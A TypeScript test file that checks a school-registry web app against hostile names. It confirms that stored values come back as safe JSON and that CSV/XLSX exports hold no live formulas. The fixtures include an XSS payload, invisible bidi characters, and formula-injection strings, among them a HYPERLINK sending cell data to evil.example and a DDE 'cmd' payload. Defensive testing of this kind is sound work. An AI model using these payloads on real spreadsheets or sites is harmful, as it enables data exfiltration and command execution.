import { afterAll, beforeAll, expect, it } from 'vitest'
import { readCsv } from '../../app/documents/csv/index.ts'
import { createUnit } from '../../app/features/territory/index.ts'
import { forEachDatabase } from '../../app/platform/database/testing/index.ts'
import { textOfAnswer } from '../access/text-of-answer.ts'
import { startWorld, type World } from '../world/start-world.ts'

const SCRIPT = '<script>alert("школа")</script><img src=x onerror=alert(1)>'
/** Turns the direction of writing round, and is not seen at all. */
const UNSEEN = 'Шк\u202eола\u202c № \u200b\ufeff\u20667'
const FORMULAS = [
  '=HYPERLINK("http://evil.example/"&A1,"сюда")',
  "+cmd|'/c calc'!A1",
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
]
/** No endpoint leaves these at the beginning of a name; a registry brought in by other means might. */
const LED = ['\t=1+1', '\r=1+1', '\n=1+1']

forEachDatabase('a hostile name', open => {
  let world: World
  beforeAll(async () => {
    world = await startWorld(open)
  })
  afterAll(() => world?.stop())

  const asAdministrator = (method: 'GET' | 'POST' | 'PATCH', url: string, body?: unknown) =>
    world.send(method, url, world.cookies.administrator, body)

  async function json(answer: Response): Promise<Record<string, unknown>> {
    expect(answer.status).toBe(200)
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/)
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'")
    return (await answer.json()) as Record<string, unknown>
  }

  it.each([SCRIPT, UNSEEN, ...FORMULAS])('%j is kept as it is and given back as JSON', async name => {
    const { units, ids } = world
    const unit = await json(
      await asAdministrator('POST', '/api/units', { kind: 'school', parentId: units.west, name }),
    )
    expect(unit.name).toBe(name)
    expect((await json(await asAdministrator('GET', `/api/units/${unit.id}`))).name).toBe(name)

    const before = await json(await asAdministrator('GET', `/api/people/${ids.expert}`))
    const { version } = before
    const person = await json(await asAdministrator('PATCH', `/api/people/${ids.expert}`, { name, version }))
    expect(person.name).toBe(name)

    const { invitation } = (await json(
      await asAdministrator('POST', '/api/invitations', {
        email: `guest${unit.id}@example.org`,
        name,
        role: 'observer',
        unitId: unit.id,
      }),
    )) as { invitation: { name: string; sentence: string } }
    expect(invitation.name).toBe(name)
    expect(invitation.sentence).toContain(name)

    const token = await json(
      await asAdministrator('POST', '/api/me/tokens', {
        name: name.slice(0, 100),
        rights: ['unit.read'],
        expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
      }),
    )
    expect(token.name).toBe(name.slice(0, 100))
  })

  it('in an error is text inside JSON too', async () => {
    const answer = await asAdministrator('GET', `/api/units?sort=${encodeURIComponent(SCRIPT)}`)
    expect(answer.status).toBe(400)
    expect(answer.headers.get('content-type')).toMatch(/^application\/problem\+json/)
    expect(await answer.text()).not.toContain('<script>')
  })

  it('is no live formula in any export', async () => {
    const { units } = world
    const scope = { accountId: 'system:test', role: 'administrator', grantId: null, unitPath: '1.' }
    await world.database.as(scope, async tx => {
      for (const name of [...FORMULAS, ...LED])
        await createUnit(tx, { kind: 'school', parentId: units.west, name })
    })
    for (const path of ['/api/registry/export.xlsx', '/api/audit/export.xlsx']) {
      const xml = await textOfAnswer(await asAdministrator('GET', path))
      // The names are in it, so that there was something to make live.
      expect(xml).toContain('HYPERLINK(')
      expect(xml).not.toMatch(/<f[\s>/]|<hyperlink|<ddeLink|externalLink/i)
      expect(xml).not.toContain('<script>')
    }
    const csv = Buffer.from(await (await asAdministrator('GET', '/api/registry/export.csv')).arrayBuffer())
    const cells = cellsOf(csv.toString())
    expect(cells.some(cell => cell.includes('HYPERLINK('))).toBe(true)
    expect(cells.filter(cell => /^[\s]*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
    // And an import takes what the export wrote: the guard comes off again.
    expect([...readCsv(csv)].flatMap(({ fields }) => fields)).toEqual(expect.arrayContaining(FORMULAS))
  })
})

/** Cells of a CSV with semicolons as a spreadsheet program sees them, by a reader of its own. */
function cellsOf(csv: string): string[] {
  const found = csv.replace(/^\uFEFF/, '').matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;"\r\n]*))/g)
  return [...found].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain)
}
